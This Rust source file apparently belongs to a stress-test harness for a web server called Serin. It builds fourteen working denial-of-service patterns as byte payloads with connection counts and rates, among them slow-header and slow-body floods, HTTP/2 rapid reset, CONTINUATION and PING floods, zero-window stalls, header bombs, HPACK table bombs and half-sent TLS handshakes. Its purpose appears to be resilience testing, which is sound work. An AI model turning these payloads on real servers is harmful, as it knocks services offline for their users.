//! The attacks: what each opens, says, and says again.
//!
//! They are data for one crowd of connections (`crowd`), which knows nothing of HTTP.

use std::time::Duration;

use clap::ValueEnum;

use super::crowd::{Door, Habit};
use crate::load::http2::{END_HEADERS, END_STREAM, PREFACE, frame, kind, request};
use crate::tls::HOST;

/// A way to attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    SlowHeads,
    SlowBodies,
    SlowReaders,
    WindowZero,
    StalledHandshakes,
    HandshakeFlood,
    RapidReset,
    Continuation,
    Settings,
    Ping,
    EmptyData,
    HeaderBombs,
    HpackBombs,
    Idle,
}

impl Attack {
    /// What its connections do, in words.
    #[must_use]
    pub fn what(self) -> &'static str {
        match self {
            Self::SlowHeads => "2,000 connections send a line of a request head every second, and no end",
            Self::SlowBodies => "1,000 connections send a byte of a request body every second",
            Self::SlowReaders => "200 connections ask three times for 1 MiB and read nothing",
            Self::WindowZero => "50 connections of HTTP/2 ask 100 times for 100 KB each, and leave windows at 0",
            Self::StalledHandshakes => "2,000 connections send half of a ClientHello, and no more",
            Self::HandshakeFlood => "1,000 handshakes a second, left when Serin has answered",
            Self::RapidReset => "8 connections of HTTP/2 ask and reset at once, 25,000 times a second each",
            Self::Continuation => "8 connections of HTTP/2 send pieces of a head without end, 50,000 a second each",
            Self::Settings => "8 connections of HTTP/2 send 50,000 SETTINGS a second each, and read nothing",
            Self::Ping => "8 connections of HTTP/2 send 50,000 PINGs a second each, and read nothing",
            Self::EmptyData => "8 connections of HTTP/2 send 50,000 empty pieces of a body a second each",
            Self::HeaderBombs => "500 new connections a second with a head of 500 fields and 50 KB",
            Self::HpackBombs => {
                "8 connections of HTTP/2 name a field of 4 KB 12,000 times in a head, 100 times a second each"
            }
            Self::Idle => "10,000 connections of TLS, opened within 7 s, do one request and then nothing",
        }
    }

    pub(super) fn habit(self, hello: &[u8]) -> Habit {
        let http2 = |opening: &[u8], burst: fn(u32) -> Vec<u8>| Habit {
            connections: 8,
            opens_per_s: 100.0,
            opening: [PREFACE, opening].concat(),
            burst: Some(burst),
            every: Duration::from_millis(2),
            ..Habit::default()
        };
        match self {
            Self::SlowHeads => Habit {
                connections: 2_000,
                opening: b"GET /1k HTTP/1.1\r\nHost: bench.test\r\n".to_vec(),
                burst: Some(|_| b"x-more: of it\r\n".to_vec()),
                every: Duration::from_secs(1),
                reads: true,
                ..Habit::default()
            },
            Self::SlowBodies => Habit {
                connections: 1_000,
                opening: b"POST /1k HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 1000000\r\n\r\n".to_vec(),
                burst: Some(|_| b"x".to_vec()),
                every: Duration::from_secs(1),
                reads: true,
                ..Habit::default()
            },
            Self::SlowReaders => Habit {
                connections: 200,
                opens_per_s: CALM,
                // The kernel takes the first answer whole: on loopback the sender's buffer has room for it.
                opening: b"GET /1m HTTP/1.1\r\nHost: bench.test\r\n\r\n".repeat(3),
                ..Habit::default()
            },
            Self::WindowZero => {
                Habit { connections: 50, opens_per_s: CALM, opening: window_zero(), reads: true, ..Habit::default() }
            }
            Self::StalledHandshakes => Habit {
                door: Door::Secure,
                connections: 2_000,
                opening: hello[..hello.len() / 2].to_vec(),
                reads: true,
                ..Habit::default()
            },
            Self::HandshakeFlood => Habit {
                door: Door::Secure,
                connections: 1_000,
                opens_per_s: 1_000.0,
                opening: hello.to_vec(),
                reads: true,
                leaves: true,
                ..Habit::default()
            },
            Self::RapidReset => http2(&[], |times| (50 * times..50 * times + 50).flat_map(ask_and_reset).collect()),
            Self::Continuation => {
                http2(&frame(kind::HEADERS, 0, 1, &get("/1k")), |_| frame(kind::CONTINUATION, 0, 1, FIELD).repeat(100))
            }
            Self::Settings => http2(&[], |_| frame(kind::SETTINGS, 0, 0, &[]).repeat(100)),
            Self::Ping => http2(&[], |_| frame(kind::PING, 0, 0, &[7; 8]).repeat(100)),
            Self::EmptyData => {
                http2(&frame(kind::HEADERS, END_HEADERS, 1, &post()), |_| frame(kind::DATA, 0, 1, &[]).repeat(100))
            }
            Self::HeaderBombs => Habit {
                connections: 500,
                opens_per_s: 500.0,
                opening: header_bomb(),
                reads: true,
                leaves: true,
                ..Habit::default()
            },
            Self::HpackBombs => Habit {
                every: Duration::from_millis(10),
                reads: true,
                ..http2(&[], |times| frame(kind::HEADERS, END_STREAM | END_HEADERS, 2 * times + 1, &hpack_bomb()))
            },
            Self::Idle => Habit {
                door: Door::Tls,
                connections: 10_000,
                opens_per_s: 1_500.0,
                opening: b"GET /1k HTTP/1.1\r\nHost: bench.test\r\n\r\n".to_vec(),
                reads: true,
                ..Habit::default()
            },
        }
    }
}

/// Connections a second of those whose answers are large: they shall be held, not come all at once, for which the endpoint
/// would need more than there is.
const CALM: f64 = 50.0;

/// A field that is remembered by nobody (RFC 7541 §6.2.2).
const FIELD: &[u8] = b"\x00\x06x-more\x05of it";

fn get(path: &str) -> Vec<u8> {
    request("http", HOST, path)
}

/// The same with POST, which is the next entry of the static table.
fn post() -> Vec<u8> {
    let mut fields = get("/1k");
    fields[0] = 0x83;
    fields
}

fn ask_and_reset(nth: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let stream = 2 * nth + 1;
    let ask = frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &get("/1k"));
    [ask, frame(kind::RST_STREAM, 0, stream, &CANCEL)].concat()
}

/// The preface with an initial window of 0, and as many requests as Serin takes at a time.
fn window_zero() -> Vec<u8> {
    const INITIAL_WINDOW_SIZE_0: [u8; 6] = [0, 4, 0, 0, 0, 0];
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(kind::SETTINGS, 0, 0, &INITIAL_WINDOW_SIZE_0));
    for nth in 0..100 {
        bytes.extend(frame(kind::HEADERS, END_STREAM | END_HEADERS, 2 * nth + 1, &get("/100k")));
    }
    bytes
}

fn header_bomb() -> Vec<u8> {
    let mut bytes = b"GET /1k HTTP/1.1\r\nHost: bench.test\r\n".to_vec();
    for nth in 0..500 {
        bytes.extend(format!("x-field-{nth:03}: {}\r\n", "x".repeat(85)).bytes());
    }
    bytes.extend(b"\r\n");
    bytes
}

/// A field of 4,000 bytes goes into the dynamic table, whose first entry is then named again and again.
fn hpack_bomb() -> Vec<u8> {
    const FIRST_DYNAMIC: u8 = 0x80 | 62;
    // 4,000 as an integer with a prefix of 7 bits: 127, and 3,873 in two bytes.
    let mut fields = [&get("/1k")[..], b"\x40\x01x\x7f\xa1\x1e"].concat();
    fields.extend([b'x'; 4_000]);
    fields.extend([FIRST_DYNAMIC; 12_000]);
    fields
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_fit_into_what_a_server_must_take() {
        assert!(hpack_bomb().len() <= 16_384);
        assert_eq!(3_873, 0x21 + (0x1e << 7), "the length of the field that is repeated");
        assert!(header_bomb().len() > 48 << 10 && header_bomb().ends_with(b"\r\n\r\n"));
    }

    #[test]
    fn every_request_of_a_connection_has_a_stream_of_its_own() {
        let burst = Attack::RapidReset.habit(&[]).burst.unwrap();
        assert_eq!(ask_and_reset(50), burst(1)[..ask_and_reset(50).len()]);
        assert_ne!(burst(0), burst(1));
    }
}
